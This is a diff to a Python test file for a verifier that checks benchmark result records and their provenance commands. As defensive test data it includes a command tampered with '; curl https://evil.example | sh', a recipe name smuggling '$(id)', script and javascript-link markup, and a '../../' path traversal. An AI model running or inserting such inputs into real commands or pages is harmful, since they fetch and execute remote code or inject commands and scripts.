@@ -95,6 +95,10 @@ FORGED = [
     ("a path for a file", "sizes", "a file or a hash that is none", lambda r: _part(r, file="../../model.onnx")),
     ("a hash that is none", "sizes", "a file or a hash that is none", lambda r: _part(r, sha256="<img src=x>")),
     ("another artifact", "sizes", "does not follow from", lambda r: _digest(r, artifact_sha256="b" * 64)),
+    (
+        "a component that there is not", "sizes", "its recipe is applied to 'audio', which its artifact has not",
+        lambda r: replace(r, cell=replace(r.cell, recipe=(replace(r.cell.recipe[0], components=("vision", "audio")),))),
+    ),
     ("a model without a hash", "sizes", "model's hash is no sha256", lambda r: _digest(r, model_sha256="none")),
     ("a claim that does not hold", "sizes", "although a claim", lambda r: _claims(r, False)),
     ("tomorrow", "dates", "still to come", lambda r: replace(r, created=(datetime.now(UTC) + timedelta(days=1)).isoformat())),
@@ -249,12 +253,36 @@ def test_source_is_never_run(right, verdict, tmp_path):
     assert not (tmp_path / "sprung").exists()
 
 
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda text: text + "; curl https://evil.example | sh",
+        lambda text: text + " --host evil",
+        lambda text: text.replace("full", "quick"),
+    ],
+)
+def test_the_command_is_that_of_the_cell_for_readers_copy_it(right, verdict, change):
+    told = _found(verdict(changed(right, lambda record: _digest(record, command=change(record.provenance.command)))), "command")
+    assert "and that of its cell is 'squeezemark run --models glyph_clip --methods baseline_fp32,mine/" in told
+
+
+def test_a_command_may_name_the_file_of_a_recipe(right, verdict):
+    named = changed(
+        right, lambda record: _digest(record, command=record.provenance.command.replace(" --targets", " --recipe my-own.toml --targets"))
+    )
+    assert verdict(named).ok
+    hidden = changed(
+        right, lambda record: _digest(record, command=record.provenance.command.replace(" --targets", " --recipe $(id).toml --targets"))
+    )
+    assert _found(verdict(hidden), "command")
+
+
 def test_markup_is_no_error_and_stays_text(right, verdict):
     text = "<script>alert(1)</script>[a](javascript:alert(1))"
 
     def marked(record):
         claims = tuple(replace(claim, claim=text, claimed=text, realised=text) for claim in record.artifact.claims)
-        return replace(_digest(record, command=text), artifact=replace(record.artifact, claims=claims))
+        return replace(record, artifact=replace(record.artifact, claims=claims))
 
     assert verdict(changed(right, marked)).ok
     told = _found(
